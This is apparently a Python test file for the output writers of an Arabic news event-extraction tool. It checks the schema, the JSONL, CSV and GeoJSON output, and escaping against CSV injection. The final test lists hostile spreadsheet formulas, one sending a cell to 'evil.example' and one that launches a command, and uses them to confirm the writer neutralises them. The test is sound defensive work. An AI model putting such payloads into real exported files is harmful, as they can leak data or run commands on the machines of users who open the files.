"""The output contract: schema, JSONL/CSV/GeoJSON writers."""
from __future__ import annotations

import csv
import io
import json

import pytest

from rasd.doc import Event, Evidence
from rasd.output.contract import CSV_COLUMNS, FIELDS, event_record, validator
from rasd.output.writers import EventWriter

ORIGINAL = "قصفت قوات النظام بلدة اللطامنة في ريف حماة الشمالي، ما أدى إلى مقتل ثلاثة مدنيين."


def sample_event(**over) -> Event:
    ev = Event(
        event_id="a1-1", article_id="a1", event_date="2018-11-11", time_precision=1,
        disorder_type="Political violence", event_type="Explosions/Remote violence",
        sub_event_type="Shelling/artillery/missile attack", actor1="Military Forces of Syria (2000-2024)",
        inter1=1, actor2="Civilians (Syria)", inter2=7, interaction=17, civilian_targeting="Civilian targeting",
        country="Syria", iso=760, admin1="Hama", admin2="Mhardeh", location="Latamneh",
        latitude=35.32, longitude=36.62, geo_precision=1, source="example", notes="On 11 November 2018 ...",
        fatalities=3, tags="cameo=195; plover=ATTACK", location_ar="اللطامنة", actor1_ar="قوات النظام",
        evidence=[Evidence(ORIGINAL, 0, len(ORIGINAL))], confidence=0.8, published="2018-11-11",
        url="https://example.org/a1",
    )
    for k, v in over.items():
        setattr(ev, k, v)
    return ev


def test_contract_fields_are_the_documented_ones() -> None:
    acled = ["event_id", "article_id", "event_date", "time_precision", "event_type", "sub_event_type", "actor1",
             "assoc_actor_1", "inter1", "actor2", "assoc_actor_2", "inter2", "interaction", "civilian_targeting",
             "country", "iso", "admin1", "admin2", "admin3", "location", "latitude", "longitude", "geo_precision",
             "source", "notes", "fatalities", "tags", "injured", "location_ar", "actor1_ar", "actor2_ar", "evidence",
             "confidence", "published", "url"]
    assert set(acled) <= set(FIELDS)
    schema_props = set(validator().schema["properties"])
    assert schema_props == set(FIELDS)


def test_valid_event_validates_and_bad_ones_do_not() -> None:
    v = validator()
    assert not list(v.iter_errors(event_record(sample_event())))
    assert list(v.iter_errors(event_record(sample_event(sub_event_type="Bombing"))))
    assert list(v.iter_errors(event_record(sample_event(confidence=1.5))))
    assert list(v.iter_errors(event_record(sample_event(event_date="11/11/2018"))))
    # a sub-event type must belong to its event type
    assert list(v.iter_errors(event_record(sample_event(event_type="Battles"))))


def test_jsonl_writer_one_object_per_line() -> None:
    out = io.StringIO()
    w = EventWriter(out, "jsonl")
    w.write_all([sample_event(), sample_event(event_id="a1-2")])
    w.close()
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["event_id"] for r in rows] == ["a1-1", "a1-2"]
    assert list(rows[0]) == FIELDS
    assert rows[0]["evidence"][0] == {"text": ORIGINAL, "start": 0, "end": len(ORIGINAL)}


def test_csv_writer_uses_acled_column_order() -> None:
    out = io.StringIO()
    w = EventWriter(out, "csv")
    w.write(sample_event())
    w.close()
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(rows[0]) == CSV_COLUMNS
    assert CSV_COLUMNS[:7] == ["event_id", "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type"]
    assert rows[0]["year"] == "2018" and rows[0]["location_ar"] == "اللطامنة"


def test_geojson_writer_points_and_unplaced_events() -> None:
    out = io.StringIO()
    w = EventWriter(out, "geojson")
    w.write_all([sample_event(), sample_event(event_id="a1-2", latitude=None, longitude=None)])
    w.close()
    fc = json.loads(out.getvalue())
    assert fc["type"] == "FeatureCollection" and len(fc["features"]) == 2
    assert fc["features"][0]["geometry"] == {"type": "Point", "coordinates": [36.62, 35.32]}
    assert fc["features"][1]["geometry"] is None


def test_empty_geojson_is_still_valid() -> None:
    out = io.StringIO()
    EventWriter(out, "geojson").close()
    assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": []}


def test_unknown_format_is_refused() -> None:
    with pytest.raises(ValueError, match="jsonl"):
        EventWriter(io.StringIO(), "xml")


def test_readme_documents_every_output_field() -> None:
    from tests.conftest import REPO

    readme = (REPO / "README.md").read_text(encoding="utf-8")
    missing = [f for f in FIELDS if f"| `{f}` |" not in readme]
    assert not missing, f"README 'Output fields' lacks {missing}"


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"انقر")', "+SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\r=1"]


def test_csv_cells_cannot_start_a_formula() -> None:
    """OWASP CSV injection: a text cell that a spreadsheet would run gets a leading quote."""
    for bad in HOSTILE:
        ev = sample_event(source=bad, notes=bad, url=bad, actor1=bad, location_ar=bad,
                          evidence=[Evidence(bad, 0, len(bad))], latitude=-33.5, longitude=-70.6)
        buf = io.StringIO()
        w = EventWriter(buf, "csv")
        w.write(ev)
        w.close()
        row = next(csv.DictReader(io.StringIO(buf.getvalue())))
        for col in ("source", "notes", "url", "actor1", "location_ar", "evidence"):
            assert row[col] == "'" + bad, (col, row[col])
        assert row["latitude"] == "-33.5" and row["longitude"] == "-70.6"  # numbers stay numbers
        assert row["admin1"] == "Hama"  # ordinary text is untouched
